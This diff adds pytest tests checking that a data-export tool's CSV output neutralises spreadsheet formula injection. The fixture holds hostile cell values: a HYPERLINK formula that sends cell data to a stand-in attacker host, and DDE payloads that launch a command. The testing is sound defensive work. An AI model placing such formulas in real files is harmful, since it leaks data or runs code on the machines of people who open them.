@@ -108,3 +108,69 @@ def test_unknown_format(cw: Crosswire, tmp_path: Path) -> None:
     with pytest.raises(CrosswireError, match="csv, jsonl, parquet, graphml, ftm"):
         export(cw, "xlsx", tmp_path)
     assert run(cw, "export", "--format", "xlsx", "--out", str(tmp_path)).exit_code == 2
+
+
+# -- spreadsheet safety (issue 13: CSV formula injection) ----------------------------------------------
+FORMULAS = {"title": '=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "publisher": "+cmd|' /C calc'!A0",
+            "author": "@SUM(1+1)*cmd|' /C calc'!A0", "tab": "\t=1+1", "cr": "\r=1+1", "minus": "-2+3+cmd|' /C calc'!A0"}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Crosswire:
+    folder = tmp_path_factory.mktemp("csv_injection")
+    line = {"id": "f1", "title": FORMULAS["title"], "publisher": FORMULAS["publisher"], "published": "2025-02-03",
+            "text": f"{FORMULAS['minus']} said the port. About 3,000 containers were unloaded on Monday."}
+    (folder / "f.jsonl").write_text(json.dumps(line) + "\n", encoding="utf-8")
+    engine = Crosswire(db=str(folder / "kb.db"))
+    engine.ingest([str(folder / "f.jsonl")], extract=False)
+    conn = engine.store.conn  # cells a reader cannot produce: tab/CR starts, authors, a negative number
+    conn.execute("UPDATE documents SET authors = ?, url = ?, external_id = ?, language = ?",
+                 (json.dumps([FORMULAS["author"]]), FORMULAS["tab"], FORMULAS["cr"], "-12.5"))
+    conn.execute("INSERT INTO rejections (source, reason, raw_id, raw, at) VALUES (?, ?, NULL, NULL, ?)",
+                 (FORMULAS["author"], FORMULAS["minus"], "2025-02-03"))
+    yield engine
+    engine.close()
+
+
+def _csv_cells(path: Path) -> list[str]:
+    with path.open(encoding="utf-8", newline="") as f:
+        return [cell for row in csv.reader(f) for cell in row]
+
+
+def test_csv_cells_never_start_a_formula(hostile: Crosswire, tmp_path: Path) -> None:
+    assert run(hostile, "export", "--format", "csv", "--out", str(tmp_path)).exit_code == 0
+    cells = [c for name in RECORDS for c in _csv_cells(tmp_path / f"{name}.csv")]
+    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-12.5"]
+    assert not risky, risky
+    assert "'" + FORMULAS["title"] in cells and "'" + FORMULAS["publisher"] in cells  # text kept, made inert
+    assert "'" + FORMULAS["tab"] in cells and "'" + FORMULAS["cr"] in cells
+    assert any(c.startswith("'" + FORMULAS["minus"]) for c in cells)
+    assert "-12.5" in cells  # a plain number stays a number
+
+
+def test_spreadsheet_safe_keeps_numbers() -> None:
+    from crosswire.report.export import spreadsheet_safe
+
+    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(None) is None
+    assert spreadsheet_safe("-5") == "-5" and spreadsheet_safe("+3.5e2") == "+3.5e2"
+    assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe("=1") == "'=1" and spreadsheet_safe("-") == "'-"
+    assert spreadsheet_safe("1-2") == "1-2" and spreadsheet_safe("Kursk") == "Kursk"
+
+
+def test_jsonl_and_parquet_keep_text_exactly(hostile: Crosswire, tmp_path: Path) -> None:
+    import pyarrow.parquet as pq
+
+    export(hostile, "jsonl", tmp_path)
+    doc = json.loads((tmp_path / "documents.jsonl").read_text(encoding="utf-8").splitlines()[0])
+    assert doc["title"] == FORMULAS["title"] and doc["authors"] == [FORMULAS["author"]]
+    export(hostile, "parquet", tmp_path)
+    table = pq.read_table(tmp_path / "documents.parquet").to_pylist()
+    assert table[0]["title"] == FORMULAS["title"] and table[0]["url"] == FORMULAS["tab"]
+
+
+def test_graphml_and_ftm_with_formula_text(hostile: Crosswire, tmp_path: Path) -> None:
+    assert run(hostile, "export", "--format", "graphml", "--out", str(tmp_path / "n.graphml")).exit_code == 0
+    ET.parse(tmp_path / "n.graphml")  # well-formed
+    assert run(hostile, "export", "--format", "ftm", "--out", str(tmp_path / "k.ftm.json")).exit_code == 0
+    lines = (tmp_path / "k.ftm.json").read_text(encoding="utf-8").splitlines()
+    assert any(FORMULAS["title"] in json.loads(line).get("properties", {}).get("title", []) for line in lines)
